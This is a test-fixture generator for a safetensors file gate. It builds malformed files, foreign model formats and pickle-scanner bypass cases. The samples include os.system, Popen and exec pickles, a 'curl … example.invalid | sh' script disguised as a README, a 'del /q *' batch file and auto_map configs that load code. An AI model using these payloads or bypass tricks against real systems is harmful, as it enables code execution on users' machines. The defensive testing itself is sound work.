    # The reference's leniencies (REFERENCES.md): it accepts these, we refuse on purpose.
    add("ref_lenient_whitespace_before_brace", frame("  " + std.decode(), I32_0), "header_start", offset=8, note="reference accepts leading whitespace; we refuse")
    add("ref_lenient_unknown_field", frame('{"test":{"dtype":"I32","shape":[2,2],"data_offsets":[0,16],"endianness":"big"}}', I32_0), "tensor_unknown_field",
        offset=AT('"endianness"'), note="reference ignores unknown fields; we refuse")
    add("ref_lenient_array_form", frame('{"test":["I32",[2,2],[0,16]]}', I32_0), "tensor_not_object", note="reference's serde reads a struct from an array; we refuse")
    add("ref_lenient_dtype_enum_object", frame('{"test":{"dtype":{"I32":null},"shape":[2,2],"data_offsets":[0,16]}}', I32_0), "dtype_invalid",
        note="reference's serde reads {\"I32\": null} as the enum; we refuse")
    add("ref_lenient_duplicate_metadata_keys", frame('{"__metadata__":{"framework":"pt","framework":"tf"},"test":{"dtype":"I32","shape":[2,2],"data_offsets":[0,16]}}', I32_0),
        "json_duplicate_key", offset=AT('"framework"', 2), note="reference keeps the last metadata value; we refuse")
    add("ref_lenient_duplicate_tensor_names", frame('{"test":{"dtype":"I32","shape":[2,2],"data_offsets":[0,16]},"test":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]}}', I32_0),
        "json_duplicate_key", offset=AT('"test"', 2), note="reference keeps the last tensor; we refuse")
    # ... and the rest of DESIGN.md's table of where the gate is stricter than the reference
    t = '"dtype":"I32","shape":[2,2],"data_offsets":[0,16]'
    add("ref_lenient_nul_in_entry_key", frame('{"test":{%s,"x\\u0000":"y"}}' % t, I32_0), "json_escape", offset=AT('\\u0000'),
        note="\\u0000 in a key inside a tensor entry: serde keeps it (and ignores the field); we refuse")
    add("ref_lenient_nul_in_metadata_value", frame('{"__metadata__":{"k":"a\\u0000"},"test":{%s}}' % t, I32_0), "json_escape", offset=AT('\\u0000'),
        note="\\u0000 in a metadata value: serde keeps it; we refuse")
    add("ref_lenient_metadata_null", frame('{"__metadata__":null,"test":{%s}}' % t, I32_0), "metadata_not_object", offset=AT("null"),
        note="reference reads __metadata__: null as no metadata (an Option); we refuse")
    add("ref_lenient_nesting_in_unknown_field", frame('{"test":{%s,"x":%s}}' % (t, "[" * 70 + "]" * 70), I32_0), "json_nesting",
        note="70 levels in a field the reference ignores (serde_json allows 128); we refuse past 64")
    add("ref_lenient_float_in_unknown_field", frame('{"test":{%s,"x":1.5}}' % t, I32_0), "integer_format", offset=AT("1.5"),
        note="a float in a field the reference ignores; every number here is a plain u64")
    add("ref_lenient_name_control", frame('{"te\\u007fst":{%s}}' % t, I32_0), "tensor_name_control", offset=AT('"te'),
        note="a control character in a tensor name: the reference keeps any string; we refuse")


def family_format():
    import numpy as np
    for p in range(6):
        # Issue 23: protocol 0 of plain data is ASCII with no import or call: text, no
        # longer named a pickle (still refused where only safetensors passes).
        add(f"format_pickle_protocol_{p}", pickle_proto(p), "refused_format", "text" if p == 0 else "pickle", ext="pkl",
            note=f"pickle.dumps protocol {p} of a plain dict" + (" (data-only text pickle: text)" if p == 0 else ""))
    state = torch_state()
    add("format_torch_zip", torch_zip(state), "refused_format", "pytorch-zip", ext="pt", note="torch.save (zip, torch 1.13)")
    add("format_torch_legacy", torch_legacy(state), "refused_format", "pytorch-legacy", ext="pt", note="torch.save _use_new_zipfile_serialization=False")
    add("format_torch_legacy_tar", tar_bytes([("storages", pickle.dumps([], protocol=2)), ("tensors", pickle.dumps([], protocol=2)),
                                              ("pickle", pickle.dumps({"w": 1}, protocol=2))]), "refused_format", "pytorch-legacy", ext="pt",
        note="the oldest torch format: tar with storages/tensors/pickle members")
    add("format_numpy_npy", npy_bytes(np.arange(6, dtype="<f4").reshape(2, 3)), "refused_format", "numpy", ext="npy", note="np.save float32")
    add("format_numpy_npy_object", npy_bytes(np.array([{"a": 1}, "x"], dtype=object), allow_pickle=True), "refused_format", "numpy", ext="npy",
        note="np.save of an object array: descr |O, pickle follows")
    add("format_numpy_npy_v2", b"\x93NUMPY\x02\x00" + struct.pack("<I", 118) + b"{'descr': '<i4', 'fortran_order': False, 'shape': (2,), }".ljust(117) + b"\n" + b"\0" * 8,
        "refused_format", "numpy", ext="npy", note=".npy format version 2.0")
    members = [("a.npy", npy_bytes(np.zeros(3, "<f8"))), ("b.npy", npy_bytes(np.ones(2, "<i4")))]
    add("format_numpy_npz", zip_bytes(members), "refused_format", "numpy", ext="npz", note="np.savez layout (zip of .npy members, fixed dates)")
    add("format_numpy_npz_compressed", zip_bytes(members, zipfile.ZIP_DEFLATED), "refused_format", "numpy", ext="npz", note="np.savez_compressed layout")
    add("format_zip_plain", zip_bytes([("readme.txt", b"hello\n"), ("data.bin", det_bytes(64, "zip"))]), "refused_format", "zip", ext="zip", note="ZIP of non-model files")
    add("format_zip_empty", b"PK\x05\x06" + b"\0" * 18, "refused_format", "zip", ext="zip", note="empty ZIP: EOCD only")
    add("format_zip_with_prefix", b"#!/bin/sh\necho self-extracting\nexit 0\n" + zip_bytes([("readme.txt", b"hello\n")]), "refused_format", "zip", ext="sh",
        note="ZIP behind a script prefix (EOCD from the end)")
    add("format_tar", tar_bytes([("model/config.txt", b"layers=2\n"), ("model/weights.bin", det_bytes(100, "tar"))]), "refused_format", "tar", ext="tar", note="ustar archive")
    add("format_gguf", gguf_file(), None, "gguf", ext="gguf", note="GGUF v3 with one kv and one tensor: strictly valid GGUF")
    # GGUF as an upload not named *.safetensors gets it (the full classes: tests/gguf)
    add("sidecar_gguf", gguf_file(), None, "gguf", ext="gguf", mode="sidecar", note="GGUF v3 upload: admitted")
    bad = bytearray(gguf_file())
    bad[-33] = 1  # the last padding byte before the data
    add("sidecar_gguf_padding", bytes(bad), "gguf_padding", "gguf", offset=len(bad) - 33, ext="gguf",
        mode="sidecar", note="GGUF v3 upload with a nonzero padding byte")
    add("format_hdf5", hdf5_file(), "refused_format", "hdf5", ext="h5", note="HDF5 superblock at 0")
    add("format_hdf5_user_block_512", hdf5_file(512), "refused_format", "hdf5", ext="h5", note="HDF5 signature after a 512-byte user block")
    add("format_hdf5_user_block_4096", hdf5_file(4096), "refused_format", "hdf5", ext="h5", note="HDF5 signature after a 4096-byte user block")
    add("format_hdf5_user_block_1024", hdf5_file(1024), "refused_format", "hdf5", ext="h5", note="HDF5 signature after a 1024-byte user block")
    add("format_tflite", tflite_file(), "refused_format", "tflite", ext="tflite", note="FlatBuffer with TFL3 at offset 4")
    add("format_onnx", onnx_model(), "refused_format", "onnx", ext="onnx", note="ONNX ModelProto (protobuf) with a Relu graph")
    payload = pickle_proto(2) + b"\0" * 64
    add("format_gzip", gzip_bytes(payload), "refused_format", "compressed", ext="gz", note="gzip of a pickle (python gzip, mtime 0)")
    add("format_bz2", bz2.compress(payload), "refused_format", "compressed", ext="bz2", note="bzip2")
    add("format_xz", lzma.compress(payload), "refused_format", "compressed", ext="xz", note="xz")
    add("format_zlib_default", zlib.compress(payload), "refused_format", "compressed", ext="zz", note="zlib 78 9C")
    add("format_zlib_best", zlib.compress(payload, 9), "refused_format", "compressed", ext="zz", note="zlib 78 DA")
    add("format_zlib_fast", zlib.compress(payload, 1), "refused_format", "compressed", ext="zz", note="zlib 78 01")
    add("format_7z", sevenzip_file(det_bytes(80, "7z")), "refused_format", "compressed", ext="7z", note="7z signature header (synthesized)")
    add("format_zstd", zstd_frame(b"not really compressed, a raw zstd block"), "refused_format", "compressed", ext="zst", note="zstd frame with a raw block (synthesized)")
    add("format_lz4", lz4_frame(b"an uncompressed lz4 block"), "refused_format", "compressed", ext="lz4", note="LZ4 frame (synthesized)")
    add("format_text", b"This is a plain text file.\nIt describes a model but holds no weights.\n", "refused_format", "text", ext="txt", note="ASCII text")
    add("format_text_utf8", "Modèle de démonstration — 模型 — ✓\n".encode() * 3, "refused_format", "text", ext="md", note="UTF-8 text")
    add("format_json", compact({"architectures": ["LlamaForCausalLM"], "hidden_size": 64, "vocab_size": 100}).encode() + b"\n", "refused_format", "json", ext="json",
        note="config.json is not safetensors")
    add("format_json_array", b'[{"id": 1}, {"id": 2}]\n', "refused_format", "json", ext="json", note="JSON array")
    add("format_unknown_random", det_bytes(4096, "random"), "refused_format", "unknown", ext="bin", note="4096 pseudo-random bytes")
    add("format_unknown_elf", b"\x7fELF\x02\x01\x01" + b"\0" * 9 + det_bytes(200, "elf"), "code_native", "native", offset=0, ext="so",
        note="an ELF header: code (by content and by name)")


def family_bypass():
    """How pickle scanners were bypassed (REFERENCES.md). Names never decide: misleading extensions on purpose."""
    state = torch_state()
    tz = torch_zip(state)
    add("bypass_pickle_innocent_member_name", zip_bytes([("weights/notes.txt", PICKLE_SYSTEM_P2), ("weights/version", b"3\n")]),
        "refused_format", "pytorch-zip", ext="zip", note="pickle in a ZIP member named notes.txt")
    add("bypass_pickle_member_no_extension", zip_bytes([("a/b", PICKLE_SYSTEM_P0)]), "refused_format", "pytorch-zip", ext="safetensors",
        note="protocol-0 pickle in member a/b, file named .safetensors")
    add("bypass_zip_flag_encrypted", zip_set_flags(tz, 0x0001), "refused_format", "pytorch-zip", ext="bin", note="torch zip with the 'encrypted' flag bit set, data in clear")
    add("bypass_zip_flag_strong_encryption", zip_set_flags(tz, 0x0041), "refused_format", "pytorch-zip", ext="bin", note="flag bits 0 and 6 (strong encryption)")
    add("bypass_zip_flag_patched", zip_set_flags(tz, 0x0020), "refused_format", "pytorch-zip", ext="bin", note="flag bit 5 (patched data)")
    add("bypass_zip_local_name_differs", zip_rename_local(tz, b"archive/data.pkl", b"archive/data.txt"), "refused_format", "pytorch-zip", ext="bin",
        note="local header says data.txt, central directory says data.pkl")
    add("bypass_zip_bad_crc", zip_break_crc(tz), "refused_format", "pytorch-zip", ext="bin", note="every CRC is wrong (torch does not check)")
    add("bypass_zip_junk_prefix", b"JUNK" * 64 + tz, "refused_format", "pytorch-zip", ext="bin", note="256 bytes of junk before a torch zip")
    add("bypass_zip_junk_prefix_100k", det_bytes(100 * 1024, "junk") + tz, "refused_format", "pytorch-zip", ext="bin",
        note="100 KiB of junk before a torch zip: the ZIP starts beyond the 64 KiB head (EOCD from the end)")
    add("bypass_zip_long_comment", tz[:-2] + struct.pack("<H", 60000) + b"C" * 60000, "refused_format", "pytorch-zip", ext="bin",
        note="torch zip with a 60000-byte archive comment after the EOCD")
    add("bypass_zip_big_member_first", zip_bytes([("archive/data/0", det_bytes(150 * 1024, "big")), ("archive/data.pkl", PICKLE_SYSTEM_P2),
                                                  ("archive/version", b"3\n")]), "refused_format", "pytorch-zip", ext="bin",
        note="150 KiB tensor member before data.pkl: the pickle lies beyond the head")
    add("bypass_zip_deflated_pickle", zip_bytes([("archive/data.pkl", pickle_proto(2) + PICKLE_SYSTEM_P2), ("archive/version", b"3\n")], zipfile.ZIP_DEFLATED),
        "refused_format", "pytorch-zip", ext="bin", note="data.pkl deflate-compressed")
    add("bypass_plain_pickle_as_safetensors", PICKLE_SYSTEM_P2, "refused_format", "pickle", ext="safetensors", note="plain protocol-2 pickle named .safetensors")
    add("bypass_plain_pickle_as_bin", PICKLE_SYSTEM_P2, "refused_format", "pickle", ext="bin", note="plain pickle named .bin (legacy load path)")
    add("bypass_plain_pickle_as_txt", pickle_proto(4), "refused_format", "pickle", ext="txt", note="protocol-4 pickle named .txt")
    add("bypass_plain_pickle_as_json", pickle_proto(5), "refused_format", "pickle", ext="json", note="protocol-5 pickle named .json")
    add("bypass_protocol0_system", PICKLE_SYSTEM_P0, "refused_format", "pickle", ext="txt", note="protocol-0 (ASCII) os.system('echo pwned') named .txt")
    # Issue 23: data-only protocol-0 pickles are text (nothing imported, called or built).
    add("bypass_protocol0_dict", pickle_proto(0), "refused_format", "text", ext="md", note="protocol-0 dict pickle named .md: data-only, text")
    add("bypass_protocol0_list_tiny", b"(lp0\nI1\na.", "refused_format", "text", ext="txt", note="10-byte protocol-0 list: data-only, text")
    add("bypass_protocol0_data_then_system", b"N." + PICKLE_SYSTEM_P0, "refused_format", "pickle", ext="txt",
        note="a data-only pickle (NONE STOP) followed by a protocol-0 os.system pickle: still a pickle")
    add("pickle_findings_stack_global_exec", PICKLE_EXEC_P4, "refused_format", "pickle", ext="bin",
        note="protocol 4: STACK_GLOBAL builtins.exec (memoized strings) + REDUCE")
    add("pickle_findings_subprocess_popen", PICKLE_POPEN_P3, "refused_format", "pickle", ext="bin",
        note="protocol 3: GLOBAL subprocess.Popen + REDUCE")
    add("pickle_findings_torch_zip_system", zip_bytes([("archive/data.pkl", PICKLE_SYSTEM_P2), ("archive/version", b"3\n")]),
        "refused_format", "pytorch-zip", ext="pt", note="torch-style zip whose data.pkl calls os.system")
    add("bypass_mixed_protocol_0_and_4", PICKLE_MIXED, "refused_format", "pickle", ext="bin", note="protocol-0 GLOBAL with BINUNICODE/SHORT_BINUNICODE/MEMOIZE opcodes")
    add("bypass_pickle_breaks_after_payload", PICKLE_BREAKS, "refused_format", "pickle", ext="bin", note="protocol 4: STACK_GLOBAL+REDUCE, then garbage instead of STOP")
    add("bypass_pickle_p0_breaks_after_payload", PICKLE_P0_BREAKS, "refused_format", "pickle", ext="txt", note="protocol 0: GLOBAL+REDUCE then garbage")
    add("bypass_pickle_tiny_4_bytes", b"\x80\x02N.", "refused_format", "pickle", ext="bin", note="4-byte protocol-2 pickle (None): under 8 bytes, still named")
    add("bypass_pickle_brace_at_offset_8", b"\x80\x02X\x03\x00\x00\x00a{bq\x00.", "refused_format", "pickle", ext="safetensors",
        note="a pickle whose byte 8 is '{' (N above the limit): still named a pickle")
    add("bypass_pickle_printable_no_stop", PICKLE_TEXT_NO_STOP, "refused_format", "pickle", ext="txt", note="printable GLOBAL+REDUCE without STOP")
    add("bypass_pickle_printable_short_binstring", PICKLE_TEXT_SHORT_BINSTRING, "refused_format", "pickle", ext="txt",
        note="printable pickle mixing protocol 0 and protocol-1 SHORT_BINSTRING")
    add("bypass_7z_checkpoint", sevenzip_file(det_bytes(200, "7zckpt")), "refused_format", "compressed", ext="safetensors", note="7z archive named .safetensors")
    add("bypass_gzip_pickle_as_safetensors", gzip_bytes(PICKLE_SYSTEM_P2), "refused_format", "compressed", ext="safetensors", note="gzip of a pickle named .safetensors")
    add("bypass_legacy_torch_as_safetensors", torch_legacy(state), "refused_format", "pytorch-legacy", ext="safetensors", note="legacy torch file named .safetensors")
    add("bypass_torch_zip_as_safetensors", tz, "refused_format", "pytorch-zip", ext="safetensors", note="torch zip named .safetensors")
    import numpy as np
    add("bypass_npy_object_as_safetensors", npy_bytes(np.array([None, "x"], dtype=object), allow_pickle=True), "refused_format", "numpy", ext="safetensors",
        note=".npy object array (pickle inside) named .safetensors")
    add("bypass_pickle_after_safetensors_header", build([("w", "U8", (0,))]) + PICKLE_SYSTEM_P2, "data_trailing", ext="bin",
        note="a valid empty header, then a pickle: refused as trailing data")
    add("bypass_pickle_in_npz", zip_bytes([("arr_0.npy", npy_bytes(np.array([1, None], dtype=object), allow_pickle=True))]), "refused_format", "numpy", ext="zip",
        note="npz whose member holds an object array")


def pe_file():
    data = bytearray(b"MZ" + b"\0" * 0x3a + struct.pack("<I", 0x80) + b"\0" * 0x40 + b"PE\0\0" + b"\x64\x86" + b"\0" * 18)
    return bytes(data) + det_bytes(200, "pe")


def family_code():
    # Code a loader would execute (docs/DESIGN.md §3): by name (the loader picks the file
    # by its name), by content (magics, a #! line) and in configuration (auto_map).
    # validate passes the file name to the gate in both modes, as an upload does.
    py = b"import os\n\nclass EvilModel:\n    def __init__(self):\n        os.system('echo pwned')\n"
    add("code_modeling_evil", py, "code_python", "text", ext="py", mode="sidecar", note="Python source named .py (by name)")
    add("code_modeling_evil_st_mode", py, "code_python", "text", ext="py", note="the same in plain validate: the name still marks code")
    add("code_modeling_evil_as_txt", py, fmt="text", ext="txt", mode="sidecar", note="the same bytes named .txt: text (no #! line)")
    add("code_empty_script", b"", "code_script", "unknown", ext="sh", mode="sidecar", note="an empty .sh: code by name")
    add("code_setup_bat", b"@echo off\r\ndel /q *\r\n", "code_script", "text", ext="bat", mode="sidecar", note=".bat (by name)")
    add("code_loader_js", b"require('child_process').exec('id');\n", "code_script", "text", ext="js", mode="sidecar", note=".js (by name)")
    nb = json.dumps({"cells": [{"cell_type": "code", "source": ["import os"], "metadata": {}, "outputs": [], "execution_count": None}],
                     "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()
    add("code_notebook", nb, "code_notebook", "json", ext="ipynb", mode="sidecar", note="a notebook named .ipynb")
    add("code_notebook_as_json", nb, "code_notebook", "json", ext="json", mode="sidecar", note="a notebook named .json: by its cells/nbformat keys")
    add("code_elf_named_model_bin", b"\x7fELF\x02\x01\x01" + b"\0" * 9 + det_bytes(300, "elf2"), "code_native", "native", offset=0, ext="bin",
        mode="sidecar", note="an ELF shared object named model.bin (by content)")
    add("code_elf_named_safetensors", b"\x7fELF\x01\x01\x01" + b"\0" * 9 + det_bytes(300, "elf3"), "code_native", "native", offset=0,
        note="an ELF named .safetensors (by content)")
    add("code_pe_named_txt", pe_file(), "code_native", "native", offset=0, ext="txt", mode="sidecar", note="a PE executable named .txt")
    add("code_macho_named_bin", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + det_bytes(120, "macho"), "code_native", "native", offset=0, ext="bin",
        mode="sidecar", note="a 64-bit Mach-O named .bin")
    add("code_dll_text", b"not really a library\n", "code_native", "text", ext="dll", mode="sidecar", note="text named .dll (by name)")
    pyc = struct.pack("<H", 3531) + b"\r\n" + b"\0" * 4 + b"\0" * 8 + b"\xe3" + det_bytes(100, "pyc")
    add("code_pyc_named_bin", pyc, "code_compiled_python", "python-bytecode", offset=0, ext="bin", mode="sidecar",
        note="CPython 3.12 bytecode named .bin (by its magic)")
    add("code_pyc_by_name", b"\0\0\0\0", "code_compiled_python", "unknown", ext="pyc", mode="sidecar", note="four zero bytes named .pyc (by name)")
    add("code_shebang_readme", b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n", "code_script", "script", offset=0, ext="md", mode="sidecar",
        note="a #! shell script named README.md (by content)")
    add("code_shebang_env_python", b"#! /usr/bin/env python3\nimport os\n", "code_script", "script", offset=0, ext="txt", mode="sidecar",
        note="#! /usr/bin/env python3 named .txt")
    add("code_shebang_st_mode", b"#!/bin/bash\necho hi\n", "code_script", "script", offset=0, note="a script named .safetensors")
    add("code_not_shebang_markdown", b"#!important note\n\nText.\n", fmt="text", ext="md", mode="sidecar", note="#! without a path: text")
    am = json.dumps({"architectures": ["EvilModel"], "model_type": "evil",
                     "auto_map": {"AutoConfig": "configuration_evil.EvilConfig", "AutoModel": "modeling_evil.EvilModel"}}, indent=2).encode()
    add("code_config_auto_map", am, "code_reference", "json", ext="json", mode="sidecar", note="config.json with auto_map")
    tk = json.dumps({"tokenizer_class": "EvilTokenizer", "auto_map": {"AutoTokenizer": ["tokenization_evil.EvilTokenizer", None]}}).encode()
    add("code_tokenizer_config_auto_map", tk, "code_reference", "json", ext="json", mode="sidecar", note="tokenizer_config.json auto_map (list form)")
    cp = json.dumps({"custom_pipelines": {"evil": {"impl": "pipeline_evil.EvilPipeline", "pt": ["AutoModel"]}}}).encode()
    add("code_config_custom_pipelines", cp, "code_reference", "json", ext="json", mode="sidecar", note="config.json with custom_pipelines")
    add("code_auto_map_in_txt", am, "code_reference", "json", ext="txt", mode="sidecar", note="auto_map in JSON named .txt: JSON by content, refused too")
    add("code_config_empty_auto_map", b'{"model_type": "gpt2", "auto_map": {}}', fmt="json", ext="json", mode="sidecar",
        note="an empty auto_map points at nothing: admitted")
    add("code_config_nested_auto_map", b'{"text_config": {"auto_map": {"AutoModel": "m.M"}}}', fmt="json", ext="json", mode="sidecar",
        note="auto_map below the top level: not read by loaders, admitted")


def family_sidecar():
    config = json.dumps({"architectures": ["GPT2LMHeadModel"], "n_embd": 768, "n_layer": 12, "torch_dtype": "float32", "vocab_size": 50257}, indent=2).encode() + b"\n"
    add("sidecar_config_json", config, fmt="json", ext="json", mode="sidecar", note="config.json")
    tok = compact({"version": "1.0", "model": {"type": "BPE", "vocab": {"a": 0, "b": 1, "ab": 2, "Ġthe": 3, "é": 4}, "merges": ["a b"]},
                   "added_tokens": [{"id": 5, "content": "<|endoftext|>", "special": True}]}).encode()
    add("sidecar_tokenizer_json", tok, fmt="json", ext="json", mode="sidecar", note="tokenizer.json with non-ASCII tokens")
    index = json.dumps({"metadata": {"total_size": 64}, "weight_map": {"a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"}}, indent=2).encode()
    add("sidecar_index_json", index, fmt="json", ext="json", mode="sidecar", note="model.safetensors.index.json")
    add("sidecar_generation_config_json", b'{\n  "bos_token_id": 50256,\n  "eos_token_id": 50256,\n  "temperature": 0.7,\n  "top_p": 1e-1\n}\n',
        fmt="json", ext="json", mode="sidecar", note="floats and exponents are fine in sidecar JSON")
    add("sidecar_readme_md", "# Demo model\n\nA tiny model — for tests only. ✓\n\n| col | val |\n|---|---|\n| a | 1 |\n\t\r\n".encode(), fmt="text", ext="md", mode="sidecar",
        note="README.md with UTF-8, tab, CRLF")
    add("sidecar_readme_md_starts_with_bracket", b"[![badge](https://example.com/b.svg)](https://example.com)\n\n# Model\n", fmt="text", ext="md", mode="sidecar",
        note="Markdown starting with '[' is text, not broken JSON")
    add("sidecar_merges_txt", "#version: 0.2\nĠ t\nĠ a\nh e\nĠt he\n".encode(), fmt="text", ext="txt", mode="sidecar", note="merges.txt (GPT-2 style)")
    add("sidecar_vocab_txt", b"[PAD]\n[UNK]\n[CLS]\n[SEP]\nthe\nof\n", fmt="text", ext="txt", mode="sidecar", note="vocab.txt (BERT style)")
    add("sidecar_safetensors_passes", build([("w", "F32", (2,))]), fmt="safetensors", ext="safetensors", mode="sidecar", note="safetensors is valid in sidecar mode too")
    add("sidecar_json_duplicate_keys", b'{"a": 1, "a": 2}\n', "sidecar_json_invalid", "json", ext="json", mode="sidecar", note="duplicate keys (JSON_REJECT_DUPLICATES)")
    add("sidecar_json_trailing_comma", b'{"a": 1,}\n', "sidecar_json_invalid", "json", ext="json", mode="sidecar", note="trailing comma")
    add("sidecar_json_nan", b'{"a": NaN}\n', "sidecar_json_invalid", "json", ext="json", mode="sidecar", note="NaN literal")
    add("sidecar_json_truncated", b'{"a": [1, 2,', "sidecar_json_invalid", "json", ext="json", mode="sidecar", note="truncated")
    add("sidecar_json_nested_duplicate", b'{"model": {"vocab": {"x": 1, "x": 2}}}', "sidecar_json_invalid", "json", ext="json", mode="sidecar", note="duplicate keys one level down")
    add("sidecar_json_two_documents", b'{"a": 1}\n{"b": 2}\n', "sidecar_json_invalid", "json", ext="json", mode="sidecar", note="two JSON documents")
    add("sidecar_text_bom_readme", "\ufeff# Title\n\nBody.\n".encode(), fmt="text", ext="md", mode="sidecar", note="UTF-8 BOM then Markdown")
    add("sidecar_json_deep_nesting", b"[" * 100000 + b"]" * 100000, "sidecar_json_invalid", "json", ext="json", mode="sidecar",
        note="100000 nested arrays: refused by the JSON parser's depth bound, no stack overflow")
    add("sidecar_json_invalid_utf8_in_string", b'{"name": "caf\xe9"}', "sidecar_json_invalid", "json", ext="json", mode="sidecar",
        note="Latin-1 byte inside a JSON string")
    add("sidecar_text_ansi_escape", b"colour: \x1b[31mred\x1b[0m\n", "sidecar_text_invalid", "unknown", ext="txt", mode="sidecar",
        note="ESC control character in text")
    add("sidecar_text_invalid_utf8", b"caf\xe9 au lait\n", "sidecar_text_invalid", "unknown", ext="md", mode="sidecar", note="Latin-1 byte in text")
    add("sidecar_text_nul", b"line one\n\0line two\n", "sidecar_text_invalid", "unknown", ext="txt", mode="sidecar", note="NUL byte in text")
    add("sidecar_text_overlong", b"slash \xc0\xaf\n", "sidecar_text_invalid", "unknown", ext="txt", mode="sidecar", note="overlong UTF-8")
    add("sidecar_pickle_p0_named_readme", PICKLE_SYSTEM_P0, "refused_format", "pickle", ext="md", mode="sidecar", note="protocol-0 pickle (ASCII) named README.md")
    # Issue 23: a data-only protocol-0 pickle is text, admitted as a sidecar.
    add("sidecar_pickle_p0_dict_named_merges", pickle_proto(0), None, "text", ext="txt", mode="sidecar",
        note="protocol-0 dict pickle named merges.txt: data-only, text")
    add("sidecar_text_nb_model_card", b"N.B. this model card starts with a note.\n\nIt is text.\n", None, "text", ext="md", mode="sidecar",
        note="a model card starting 'N.B.' (NONE STOP): text, not a pickle")
    add("sidecar_pickle_data_then_system", b"N." + PICKLE_SYSTEM_P0, "refused_format", "pickle", ext="md", mode="sidecar",
        note="NONE STOP then a protocol-0 os.system pickle named README.md")
    add("sidecar_pickle_p4_named_config", pickle_proto(4), "refused_format", "pickle", ext="json", mode="sidecar", note="protocol-4 pickle named config.json")
    add("sidecar_pickle_text_no_stop_readme", PICKLE_TEXT_NO_STOP, "refused_format", "pickle", ext="md", mode="sidecar",
        note="printable protocol-0 GLOBAL+REDUCE with no STOP (the call runs before EOF) named README.md")
    add("sidecar_pickle_text_tail_readme", PICKLE_TEXT_TAIL, "refused_format", "pickle", ext="md", mode="sidecar",
        note="printable GLOBAL+REDUCE followed by ordinary text lines")
    add("sidecar_pickle_text_eval_merges", PICKLE_TEXT_EVAL, "refused_format", "pickle", ext="txt", mode="sidecar",
        note="printable __builtin__.eval + REDUCE, no STOP, named merges.txt")
    add("sidecar_pickle_text_short_binstring", PICKLE_TEXT_SHORT_BINSTRING, "refused_format", "pickle", ext="md", mode="sidecar",
        note="all-printable pickle using protocol-1 SHORT_BINSTRING with length byte '*' (42)")
    add("sidecar_pickle_text_memo_no_stop", PICKLE_TEXT_MEMO_NO_STOP, "refused_format", "pickle", ext="txt", mode="sidecar",
        note="posix.system + REDUCE + PUT, no STOP")
    add("sidecar_torch_zip_named_tokenizer", torch_zip(torch_state()), "refused_format", "pytorch-zip", ext="json", mode="sidecar", note="torch zip named tokenizer.json")
    add("sidecar_binary_blob", det_bytes(2048, "blob"), "sidecar_text_invalid", "unknown", ext="txt", mode="sidecar", note="random bytes named .txt")
    add("sidecar_gzip_blob", gzip_bytes(b"hello\n" * 50), "refused_format", "compressed", ext="txt", mode="sidecar", note="gzip named .txt")
    # A name ending in .json must hold strict JSON (one object or array, no BOM, numbers
    # that fit a double, nothing after it); the same bytes under another name are
    # judged by content (the *_txt twins). validate --sidecar picks the kind by name.
    bom_json = "\ufeff".encode() + b'{"a": 1}'
    add("sidecar_json_bom", bom_json, "sidecar_json_invalid", "json", offset=0, ext="json", mode="sidecar",
        note="UTF-8 BOM then an object, named .json: strict JSON has no BOM")
    add("sidecar_json_bom_txt", bom_json, fmt="text", ext="txt", mode="sidecar", note="the same bytes named .txt: text")
    add("sidecar_json_top_null", b"null", "sidecar_json_invalid", "json", offset=0, ext="json", mode="sidecar",
        note="a bare null named .json: a JSON sidecar is an object or array")
    add("sidecar_json_top_null_txt", b"null", fmt="text", ext="txt", mode="sidecar", note="the same bytes named .txt: text")
    add("sidecar_json_top_number_overflow", b"1e99999", "sidecar_json_invalid", "json", offset=0, ext="json", mode="sidecar",
        note="a bare number that overflows a double, named .json")
    add("sidecar_json_top_string", b'"text"\n', "sidecar_json_invalid", "json", offset=0, ext="json", mode="sidecar",
        note="a bare string named .json")
    add("sidecar_json_number_overflow_inside", b'{"scale": 1e99999}', "sidecar_json_invalid", "json", ext="json", mode="sidecar",
        note="a number that overflows a double inside an object")
    add("sidecar_json_number_overflow_inside_txt", b'{"scale": 1e99999}', "sidecar_json_invalid", "json", ext="txt", mode="sidecar",
        note="the same named .txt: JSON by its first token, so judged as JSON too")
    add("sidecar_json_trailing_word", b'{"a": 1} trailing', "sidecar_json_invalid", "json", offset=17, ext="json", mode="sidecar",
        note="an object then a word")
    add("sidecar_json_empty", b"", "sidecar_json_invalid", "json", offset=0, ext="json", mode="sidecar",
        note="an empty file named .json")
    add("sidecar_json_whitespace_only", b"  \n", "sidecar_json_invalid", "json", ext="json", mode="sidecar",
        note="only whitespace named .json")
    add("sidecar_json_markdown", b"# Not JSON\n", "sidecar_json_invalid", "json", offset=0, ext="json", mode="sidecar",
        note="Markdown named .json")
    add("sidecar_json_template", b"{{ bos_token }}", "sidecar_json_invalid", "json", offset=1, ext="json", mode="sidecar",
        note="a template named .json: '{' then '{' cannot start an object")
    add("sidecar_json_safetensors_named_json", build([("w", "F32", (2,))]), "sidecar_json_invalid", "json", ext="json", mode="sidecar",
        note="valid safetensors named .json: a .json name must hold JSON")
    add("sidecar_json_leading_whitespace", b'\n\t {"a": [1, 2.5e3, -0.0]}\n', fmt="json", ext="json", mode="sidecar",
        note="whitespace around an object and floats are strict JSON")
    add("sidecar_json_top_array", b'[{"id": 1}, {"id": 2}]', fmt="json", ext="json", mode="sidecar",
        note="a top-level array is a JSON sidecar")

def family_large():
    """Cases too big to commit: run.sh writes them with --large (standard library only)."""
    for n, what in [(67324752, "PK 03 04 (ZIP local header)"), (33639248, "PK 01 02 (ZIP central header)"), (6838850, "BZh (bzip2)")]:
        add(f"magic_length_{n}", ("spaces", n), note=f"N={n}: length bytes spell {what}; large, generated by run.sh", large=True)
    add("sidecar_too_large_text", ("text", 16 * 1024 * 1024 + 1), "sidecar_too_large", "text", ext="txt", mode="sidecar",
        note="16 MiB + 1 of text (default sidecar limit 16 MiB); large, generated by run.sh", large=True)


def make_large(kind, size):
    """Bytes of the large cases; standard library only (run.sh calls --large)."""
    if kind == "spaces":
        n = size
        base = one("U8", (4,)).encode()
        return struct.pack("<Q", n) + base + b" " * (n - len(base)) + b"\x01\x02\x03\x04"
    if kind == "text":
        line = b"the quick brown fox jumps over the lazy dog 0123456789\n"
        out = line * (size // len(line) + 1)
        return out[:size - 1] + b"\n"
    raise ValueError(kind)


def all_cases():
    family_valid()
    family_magic()
    family_reason()
    family_nonfinite()
    family_tob()
    family_ref()
    family_format()
    family_bypass()
